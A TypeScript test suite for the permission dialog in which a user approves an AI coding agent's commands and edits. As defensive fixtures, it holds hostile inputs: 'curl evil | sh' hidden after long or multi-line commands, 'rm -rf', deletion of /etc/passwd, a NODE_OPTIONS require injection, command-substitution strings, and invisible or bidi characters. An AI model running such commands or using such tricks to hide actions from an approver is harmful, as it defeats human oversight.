import assert from 'node:assert/strict';
import type { FileChange, PermissionSubject } from '../../../../src/core/model/content';
import { EMPTY_STATE, type SessionState, type ToolCallEntry } from '../../../../src/core/model/state';
import { reduce } from '../../../../src/core/reduce/reduce';
import type { PendingPermission } from '../../../../src/session/permission/presenter';
import { inertLine } from '../../../../src/application/shared/escape';
import { operationTextOf } from '../../../../src/application/permission/permissionSummary';
import { followRequest, permissionStrings } from '../../../../src/application/permission/permissionText';
import { english } from '../english';

const OPTIONS = [
  { optionId: 'y', name: 'Allow', kind: 'allow_once' },
  { optionId: 'a', name: 'Allow for this project', kind: 'allow_always' },
  { optionId: 'o', name: 'Other', kind: '_custom' },
  { optionId: 'n', name: 'Reject', kind: 'reject_once' },
  { optionId: 'x', name: 'Never', kind: 'reject_always' },
];

const ask = (over: Partial<PendingPermission>): PendingPermission => ({
  sessionKey: 's1',
  agentName: 'Codex',
  permissionId: 'p1',
  title: 'Run the tests',
  options: OPTIONS,
  subject: {},
  cwd: '/work/app',
  ...over,
});

const operation = (subject: PermissionSubject, over: Partial<PendingPermission> = {}) =>
  operationTextOf(ask({ subject, ...over }), english).text;
const words = (subject: PermissionSubject, over: Partial<PendingPermission> = {}) =>
  permissionStrings(ask({ subject, ...over }), 1, english);
const labels = (subject: PermissionSubject, over: Partial<PendingPermission> = {}) => words(subject, over).rows.map(({ label }) => label);
const diff = (...changes: FileChange[]) => ({ content: [{ type: 'diff' as const, changes }] });
const ALL = OPTIONS.map(({ name }) => name);
const inEnvironment = (name: string, value: string): PermissionSubject => ({ command: 'ls', environment: [{ name, value }] });
const REFUSALS = ['Reject', 'Never', 'Show in Session'];

describe('texts of a permission’s quick pick', () => {
  it('name the agent, the question and the queue', () => {
    assert.equal(permissionStrings(ask({}), 1, english).title, 'Codex: Run the tests');
    assert.equal(permissionStrings(ask({}), 3, english).title, 'Codex: Run the tests (1 of 3)');
    assert.equal(permissionStrings(ask({ title: '' }), 1, english).title, 'Codex: Permission');
  });

  it('offer one answer for many questions', () => {
    const requests = Array.from({ length: 10 }, (_, at) => ({
      type: 'permission_requested' as const,
      permissionId: `p${at}`,
      title: 'Edit',
      options: OPTIONS,
      subject: {},
      at,
    }));
    const store = (count: number) => ({ state: requests.slice(0, count).reduce<SessionState>(reduce, EMPTY_STATE) }) as never;
    assert.deepEqual(labels({}, { store: store(9) }), ALL);
    assert.deepEqual(labels({}, { store: store(10) }), [...ALL, 'Allow 10 questions once', 'Reject 10 questions']);
  });

  it('warn of files that have changed since, and follow further changes', () => {
    const entries = (outdated?: string[]) => ({
      get: () => ({ kind: 'permission', entryId: 'permission:p1', at: 0, subject: {}, outdated }),
    });
    const listeners = new Set<(seq: number, events: unknown[]) => void>();
    const store = {
      state: { entries: entries(), pendingPermissions: [] },
      onEvents: (listener: (seq: number, events: unknown[]) => void) => {
        listeners.add(listener);
        return { dispose: () => void listeners.delete(listener) };
      },
    };
    const asked = ask({ store: store as never });
    assert.equal(permissionStrings(asked, 1, english).title, 'Codex: Run the tests');
    store.state = { pendingPermissions: [], entries: entries(['/work/app/src/cart.js']) };
    assert.equal(
      permissionStrings(asked, 1, english).title,
      'Codex: Run the tests — cart.js has changed since Codex prepared this change. Allowing it may overwrite what was saved.',
    );
    store.state = { pendingPermissions: [], entries: entries(['/a', '/b', '/c\nd', '/e']) };
    assert.match(permissionStrings(asked, 1, english).title, / — a, b, c.+d, … have changed since Codex prepared/);
    let changes = 0;
    const following = followRequest(asked, () => changes++);
    const happen = (...events: unknown[]) => listeners.forEach((listener) => listener(1, events));
    happen({ type: 'permission_outdated', permissionId: 'p2', paths: [] }, { type: 'turn_ended' });
    assert.equal(changes, 0);
    happen({ type: 'permission_outdated', permissionId: 'p1', paths: [] });
    assert.equal(changes, 1);
    happen({ type: 'permission_advised', permissionId: 'p1', advice: { risks: [] } });
    assert.equal(changes, 2);
    following.dispose();
    assert.equal(listeners.size, 0);
    followRequest(ask({}), () => changes++).dispose();
  });

  describe('with the advice of the host', () => {
    const advised = (advice: object, over: Partial<PendingPermission> = {}) => {
      const subject = { command: 'npm test', kind: 'execute', advice: { risks: [], ...advice } };
      const entry = { kind: 'permission', entryId: 'permission:p1', at: 0, subject };
      const store = { state: { entries: { get: () => entry }, pendingPermissions: [] }, onEvents: () => ({ dispose: () => undefined }) };
      return permissionStrings(ask({ subject: { command: 'npm test', kind: 'execute' }, store: store as never, ...over }), 1, english);
    };

    it('say the rule that asks, and the risks', () => {
      const why = { code: 'rule', params: { text: 'Ask about `npm *`' } };
      assert.equal(
        advised({ why, risks: ['network', 'newer', 'deletes'] }).title,
        'Codex: Run the tests — required by the rule Ask about `npm *` · Uses the network · Deletes',
      );
      assert.equal(advised({ why: { code: 'agent_request' } }).title, 'Codex: Run the tests');
    });

    it('say the rule that protects a file', () => {
      const params = { rule: '.env*', path: '/work/app/.env' };
      const reason = { why: { code: 'protected_path', params } };
      const read = { subject: { kind: 'read', locations: [{ path: '/work/app/.env' }] } };
      assert.equal(advised(reason, read).title, 'Codex: Run the tests — protected by the rule .env*');
      assert.equal(
        advised({ why: { code: 'protected_path_overwritten', params } }, read).title,
        'Codex: Run the tests — protected by the rule .env*',
      );
    });

    it('leave the risks to the card where the operation takes all the room', () => {
      const long = { subject: { command: 'ab '.repeat(118), kind: 'execute' } };
      assert.doesNotMatch(advised({ risks: ['network', 'deletes', 'administrator'] }, long).title, /network/);
    });

    it('offer rules that can be read whole', () => {
      const suggestion = (id: string, command: string) => ({ id, rule: { effect: 'allow', command }, scope: 'folder' });
      const suggestions = [suggestion('a', 'npm test'), suggestion('b', 'x'.repeat(70))];
      assert.deepEqual(advised({ suggestions }).rules, [{ label: 'Always allow `npm test` in this folder', suggestionId: 'a' }]);
      assert.deepEqual(advised({ suggestions }, { subject: { command: 'x '.repeat(500), kind: 'execute' } }).rules, []);
      assert.deepEqual(words({}).rules, []);
    });
  });

  it('name the asking sub-session in one short line', () => {
    assert.equal(permissionStrings(ask({ askedBy: 'child-1' }), 1, english).title, 'Codex: Sub-agent child-1 asks: Run the tests');
    const { title } = permissionStrings(ask({ askedBy: `$(warning)\n\u202e${'x'.repeat(500)}` }), 1, english);
    assert.doesNotMatch(title, /[\n\u202e]|\$\(warning\)/);
    assert.ok(title.length < 150, `${title.length} characters`);
  });

  describe('describe the operation', () => {
    const table: [what: string, subject: PermissionSubject, said: string][] = [
      ['a command', { command: 'npm test', kind: 'execute' }, 'Run: npm test'],
      ['its folder, where it is not the session’s', { command: 'npm test', cwd: '/work/app/web' }, 'Run: npm test — in /work/app/web'],
      [
        'the environment and the file that runs',
        { command: 'git', environment: [{ name: 'PATH', value: './bin' }], program: '/work/app/bin/git', kind: 'execute' },
        'Run: git; Set: PATH=./bin; Program: /work/app/bin/git',
      ],
      [
        'the environment of a raw input',
        { rawInput: { command: 'npm test', env: { CI: '1', NODE_OPTIONS: '--require ./x.js' } } },
        'Run: npm test; Set: NODE_OPTIONS=--require ./x.js; Set: CI=1',
      ],
      ['a command of the raw input', { rawInput: { command: 'ls -la', cwd: '/tmp' } }, 'Run: ls -la — in /tmp'],
      ['where its words end', { rawInput: { command: ['bash', '-lc', 'rm -rf "a b"'] } }, 'Run: bash -lc "rm -rf \\"a b\\""'],
      ['its arguments', { rawInput: { command: 'git', args: ['commit', '-m', 'x; y'] } }, 'Run: git commit -m "x; y"'],
      ['arguments that are no words', { rawInput: { command: 'sh', args: { c: 'evil' } } }, '{"command":"sh","args":{"c":"evil"}}'],
      ['a command once, where both tell it', { command: 'ls', rawInput: { command: 'ls' } }, 'Run: ls'],
      ['two commands, where they differ', { command: 'ls', rawInput: { command: 'rm x' } }, 'Run: ls; Run: rm x'],
      ['a diff', diff({ operation: 'modify', path: '/work/app/src/a.ts' }), 'Edit src/a.ts'],
      [
        'several changes',
        diff(
          { operation: 'add', path: '/work/app/b' },
          { operation: 'delete', path: '/etc/passwd' },
          { operation: 'move', oldPath: '/work/app/c', path: '/work/app/d' },
        ),
        'Create b; Delete /etc/passwd; move: c → d',
      ],
      [
        'a diff before a command of the raw input',
        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', rawInput: { command: 'ls' } },
        'Edit a; Run: ls',
      ],
      [
        'a diff’s path once',
        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', locations: [{ path: '/work/app/a', line: 3 }] },
        'Edit a',
      ],
      [
        'a place beside a diff’s',
        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', locations: [{ path: '/etc/hosts' }] },
        'Edit a; Edit /etc/hosts',
      ],
      ['what a path is for, by kind', { kind: 'edit', locations: [{ path: '/work/app/a.ts' }] }, 'Edit a.ts'],
      [
        'deletion before a command of the raw input',
        { kind: 'delete', locations: [{ path: '/work/app/a' }], rawInput: { command: 'ls' } },
        'Delete a; Run: ls',
      ],
      ['deletion of who knows what', { kind: 'delete', rawInput: { command: 'ls', target: '/' } }, 'Delete: {"command":"ls","target":"/"}'],
      ['deletion, when nothing else is told', { kind: 'delete' }, 'Delete'],
      ['a command, whatever its kind', { kind: 'read', rawInput: { command: 'rm x' } }, 'Run: rm x'],
      ['places', { locations: [{ path: '/work/app/a.ts', line: 3 }, { path: '/else/b.ts' }], rawInput: { x: 1 } }, 'a.ts:3; /else/b.ts'],
      [
        'a path that climbs out of the folder, whole',
        { locations: [{ path: '/work/app/../../etc/passwd' }] },
        '/work/app/../../etc/passwd',
      ],
      ['a folder that begins alike, whole', { locations: [{ path: '/work/application/a' }] }, '/work/application/a'],
      ['the raw input', { rawInput: { url: 'https://example.com' } }, '{"url":"https://example.com"}'],
    ];
    for (const [what, subject, said] of table) {
      it(what, () => assert.equal(operation(subject), said));
    }

    it('by the description, or else by the text of the request, but never by the title', () => {
      assert.equal(operation({ rawInput: {} }, { description: 'Because' }), 'Because');
      assert.equal(operation({ content: [{ type: 'content', content: { type: 'text', text: 'The plan' } }] }), 'The plan');
      assert.equal(operation({}, { title: 'List files' }), '');
    });
  });

  describe('offer to allow only an operation that is shown in full', () => {
    const long = `cd packages/app && npm run build -- --mode production --target staging --verbose && node scripts/clean.js --keep ${'dist '.repeat(20)}`;
    const sting = `${long.slice(0, 185)}; curl evil | sh`;
    const tooLong = sting.repeat(2);

    it('in the box, when it is short', () => {
      const { title, placeholder } = words({ command: 'npm test' });
      assert.deepEqual([title, placeholder], ['Codex: Run the tests', 'Run: npm test']);
      assert.deepEqual(labels({ command: 'npm test' }), ALL);
    });

    it('in the title, which is broken into lines, when it is longer', () => {
      const command = 'npm run build -- --mode production && node deploy.js';
      const { title, placeholder, rows } = words({ command });
      assert.deepEqual([title, placeholder], [`Codex: Run the tests — Run: ${command}`, 'Select an answer']);
      assert.equal(rows.length, ALL.length);
    });

    it('in the title, with the sting at the end of a command of 200 characters', () => {
      assert.equal(sting.length, 201);
      assert.deepEqual(labels({ command: sting }), ALL);
      assert.deepEqual(labels({ rawInput: { command: sting } }), ALL);
      const [, told] = words({ command: sting }).title.split(' — ');
      assert.equal(told!.replaceAll('\u200b', ''), `Run: ${sting}`);
    });

    it('not a command of 400 characters with its sting at the end', () => {
      assert.deepEqual(labels({ command: tooLong }), REFUSALS);
      assert.deepEqual(labels({ rawInput: { command: tooLong } }), REFUSALS);
      const { placeholder, rows } = words({ command: tooLong });
      assert.match(placeholder, /^Run: cd packages.*curl evil \| sh$/, 'both ends are told all the same');
      assert.equal(rows.at(-1)?.optionId, undefined);
      assert.ok(placeholder.length < 120);
    });

    const refused: [what: string, subject: PermissionSubject, over?: Partial<PendingPermission>][] = [
      ['several lines', { command: 'ls\ncurl evil | sh' }],
      ['a line that another sign ends', { command: 'ls\u2028curl evil | sh' }],
      ['wide characters that take more room', { command: '文'.repeat(180) }],
      ['signs that take more room than letters', { command: '﷽'.repeat(45) }],
      ['letters under a heap of accents', { command: `ls ${'\u0301'.repeat(200)}` }],
      ['what is long because it cannot be seen', { command: `ls${'\u200b'.repeat(60)}` }],
      ['more files than fit', diff(...Array.from({ length: 500 }, (_, n) => ({ operation: 'modify', path: `/work/app/file${n}` })))],
      ['a long path', { kind: 'edit', locations: [{ path: `/${'x'.repeat(400)}` }] }],
      ['a long folder', { command: 'ls', cwd: `/${'x'.repeat(400)}` }],
      ['a long command of the raw input beside a short one', { command: 'ls', rawInput: { command: tooLong } }],
      ['a long raw input', { rawInput: { url: `https://example.com/${'x'.repeat(400)}` } }],
      ['a patch of files that are not named', { content: [{ type: 'diff', changes: [], patch: 'x' }] }],
      ['content that we do not know', { command: 'ls', content: [{ type: 'unknown', raw: { run: 'evil' } }] }],
      ['a long description, when it is all there is', {}, { description: 'x'.repeat(400) }],
      ['a long title, when it is all there is', {}, { title: 'x'.repeat(300) }],
      ['a variable that is longer than a line', inEnvironment('PATH', 'x'.repeat(1000)), {}],
      ['a variable of several lines', inEnvironment('A', 'x\nPATH=./bin'), {}],
      ['a variable with blanks that move its end out of sight', inEnvironment('A', `x${' '.repeat(90)}y`), {}],
      [
        'more variables than fit',
        { command: 'ls', environment: Array.from({ length: 60 }, (_, at) => ({ name: `V${at}`, value: '1' })) },
        {},
      ],
    ];
    for (const [what, subject, over] of refused) {
      it(`not ${what}`, () => assert.deepEqual(labels(subject, over), REFUSALS));
    }

    it('whatever the title says', () => {
      assert.deepEqual(labels({ command: tooLong }, { title: 'List files' }), REFUSALS);
      assert.deepEqual(labels({ command: 'ls\n' }, { title: 'x'.repeat(300) }), ALL, 'a last line break is none');
    });

    it('with line breaks in words that are wider than a narrow title, and with every space', () => {
      const { title } = words({ command: `cat ${'x'.repeat(50)}  y` });
      const [, told] = title.split(' — ');
      assert.equal(told!.replaceAll('\u200b', '').replaceAll('\u00a0', ' '), `Run: cat ${'x'.repeat(50)}  y`);
      assert.ok(
        told!.split(/[ \u200b]/).every((word) => word.length <= 20),
        told,
      );
    });
  });

  it('name the reason for the question after the operation', () => {
    const content = [
      { type: 'diff' as const, changes: [{ operation: 'add', path: '/work/app/.git/hooks/pre-commit', oldText: null, newText: '' }] },
    ];
    const file = { type: 'protected_path' as const, access: 'write' as const, rule: '.git', path: '/work/app/src/hooks/pre-commit' };
    assert.equal(operation({ content, reason: file }), 'Create .git/hooks/pre-commit');
    assert.equal(
      operation({ content, reason: { ...file, target: '/work/app/.git/hooks/pre-commit' } }),
      'Create .git/hooks/pre-commit — requested as src/hooks/pre-commit',
    );
    assert.equal(operation({ locations: [{ path: '/work/app/.env' }], reason: { ...file, access: 'read', rule: '.env*' } }), '.env');
    const command = { type: 'command' as const, unasked: true, variables: ['GIT_DIR', '$(x)'] };
    assert.equal(
      operation({ command: 'make', cwd: '/work/app', reason: command }),
      `Run: make — the agent didn't ask for permission, sets GIT_DIR, ${inertLine('$(x)', 9)}`,
    );
    assert.equal(
      operation({ command: 'make', reason: { ...command, unasked: false, variables: [] } }),
      'Run: make — your settings require asking before each command',
    );
  });

  it('escape and limit all text of the agent', () => {
    const nasty = '$(check)\u202e\u0007' + 'x'.repeat(100_000) + ' --end';
    const { title, placeholder, rows } = words(
      { command: nasty, cwd: nasty },
      { agentName: nasty, title: nasty, options: [{ optionId: 'a', name: nasty, kind: 'reject_once' }] },
    );
    for (const text of [title, placeholder, rows[0]!.label, rows[0]!.description, words({ command: '$(check)\u202e\u0007' }).placeholder]) {
      assert.doesNotMatch(text, /\$\(|\u202e|\u0007/);
      assert.ok(text.length < 1_500, String(text.length));
    }
    assert.equal(words({ command: 'a\u202eb\u0007' }).placeholder, 'Run: a‹U+202E›b␇');
    assert.match(operation({ rawInput: { a: 'x'.repeat(100_000), b: 'last' } }), /"last"\}$/);
  });

  it('make a row of each option, in the agent’s order, and show its kind, whatever its name', () => {
    const options = [
      { optionId: '1', name: 'Reject', kind: 'allow_always' },
      { optionId: '2', name: '', kind: '_custom' },
      { optionId: '3', name: 'Allow once', kind: 'allow_once' },
      { optionId: '4', name: 'No', kind: 'reject_once' },
      { optionId: '', name: ' ', kind: 'reject_always' },
    ];
    assert.deepEqual(words({}, { options }).rows, [
      { label: 'Reject', description: 'Always allow', icon: 'check-all', optionId: '1' },
      { label: '2', description: '', icon: 'question', optionId: '2' },
      { label: 'Allow once', description: '', icon: 'pass', optionId: '3' },
      { label: 'No', description: 'Reject once', icon: 'close', optionId: '4' },
      { label: '(unnamed option)', description: 'Always reject', icon: 'circle-slash', optionId: '' },
    ]);
  });

  it('show the kind of an option only if its name does not', () => {
    const described = OPTIONS.map((option) => words({}, { options: [option] }).rows[0]!.description);
    assert.deepEqual(described, ['', 'Always allow', '', '', 'Always reject']);
    const yes = { optionId: 'y', name: 'Yes', kind: 'allow_once' };
    assert.equal(words({}, { options: [yes] }).rows[0]!.description, 'Allow once');
  });

  describe('for an edit', () => {
    const path = '/work/app/src/a.ts';
    const change = { operation: 'modify', path, oldText: 'one\ntwo\nthree\n', newText: 'one\n2\nthree\nfour\n' };
    const call = (over: Partial<ToolCallEntry>): ToolCallEntry => {
      const known = { kind: 'tool_call', entryId: 'tool_call:c', at: 0, updatedAt: 0, toolCallId: 'c', toolKind: 'edit' } as const;
      return { ...known, status: 'pending', content: [], locations: [], ...over };
    };

    it('name the edited file, with the numbers of its changed lines', () => {
      assert.equal(words(diff(change)).placeholder, 'Edit src/a.ts (+2 −1)');
      const created = { operation: 'add', path, oldText: null, newText: 'one\ntwo\n' };
      assert.equal(words(diff(created)).placeholder, 'Create src/a.ts (+2 −0)');
      assert.equal(operation(diff(change, { ...created, path: '/work/app/b' })), 'Edit src/a.ts (+2 −1); Create b (+2 −0)');
    });

    it('name no numbers of a change that is too large to compare', () => {
      const oldText = 'x\n'.repeat(2_000_000);
      assert.equal(operation(diff({ ...change, oldText })), 'Edit src/a.ts');
    });

    it('offer its diff', () => {
      const { diffs } = words({ content: [{ type: 'terminal', terminalId: 't' }, ...diff(change).content] });
      assert.deepEqual(diffs, [{ entryId: 'permission:p1', content: 1, change: 0, label: 'Open Diff' }]);
      assert.deepEqual(words(diff({ operation: 'modify', path })).diffs, []);
      assert.deepEqual(words({ command: 'ls' }).diffs, []);
    });

    it('offer the diff of the tool call when the request has none', () => {
      const { content } = diff(change);
      const note = { type: 'content' as const, content: { type: 'text' as const, text: 'Note' } };
      const { diffs } = words({ content: [note, ...content] }, { call: call({ content }) });
      assert.deepEqual(diffs, [{ entryId: 'tool_call:c', content: 0, change: 0, label: 'Open Diff' }]);
    });

    it('offer a few diffs by their files', () => {
      const changes = ['a', 'b', 'c', 'd'].map((name) => ({ ...change, path: `/work/app/$(x)${name}.ts` }));
      const labels = words(diff(...changes)).diffs.map(({ label }) => label);
      assert.equal(labels.length, 3);
      assert.match(labels[0]!, /^Open Diff of .*a\.ts$/);
      assert.doesNotMatch(labels[0]!, /\$\(/);
    });
  });

  describe('use the same title as the card', () => {
    const call = (over: Partial<ToolCallEntry>): ToolCallEntry => ({
      kind: 'tool_call',
      entryId: 'tool_call:c',
      at: 0,
      updatedAt: 0,
      toolCallId: 'c',
      toolKind: 'edit',
      status: 'pending',
      content: [],
      locations: [],
      ...over,
    });
    const edit = { kind: 'edit', ...diff({ operation: 'add', path: '/work/app/src/hello.txt' }) };

    it('with the title of the tool call, and the path relative to the folder', () => {
      const { title, placeholder } = words(edit, { title: '/work/app/src/hello.txt', call: call({ title: 'write' }) });
      assert.deepEqual([title, placeholder], ['Codex: write', 'Create src/hello.txt']);
    });

    it('without the path that is beside the title', () => {
      assert.equal(words(edit, { title: 'Write /work/app/src/hello.txt' }).title, 'Codex: Write');
      assert.equal(words(edit, { title: '/work/app/src/hello.txt', call: call({}) }).title, 'Codex: Edit');
    });

    it('without the folder of a command, and without naming the command twice', () => {
      const command = 'echo shell-says-hi && ls -1 && cat hello.txt';
      const subject = { kind: 'execute', rawInput: { command }, locations: [{ path: '/work/app' }] };
      const { title, placeholder } = words(subject, { title: command, call: call({ title: command, toolKind: 'execute' }) });
      assert.deepEqual([title, placeholder], [`Codex: Run command — ${command}`, 'Select an answer']);
      assert.equal(words({ rawInput: { command: 'ls' } }, { title: 'ls' }).placeholder, 'ls');
    });

    it('with the folder that would be deleted', () => {
      assert.equal(
        operation({ kind: 'delete', locations: [{ path: '/work/app' }], rawInput: { command: 'x' } }),
        'Delete /work/app; Run: x',
      );
    });
  });

  it('name the rule of a protected file that the agent asks to change', () => {
    const ruleOf = (file: string) => (file.includes('.vscode') ? '.vscode' : undefined);
    const subject = diff({ operation: 'modify', path: '/work/app/.vscode/tasks.json' }, { operation: 'modify', path: '/work/app/a' });
    assert.equal(
      operationTextOf(ask({ subject }), english, ruleOf).text,
      'Edit .vscode/tasks.json (protected by the rule .vscode); Edit a',
    );
    const reason = { type: 'protected_path', access: 'write', rule: '.vscode', path: '/work/app/.vscode/tasks.json' } as const;
    assert.doesNotMatch(operationTextOf(ask({ subject: { ...subject, reason } }), english, ruleOf).text, /protected by/);
  });
});
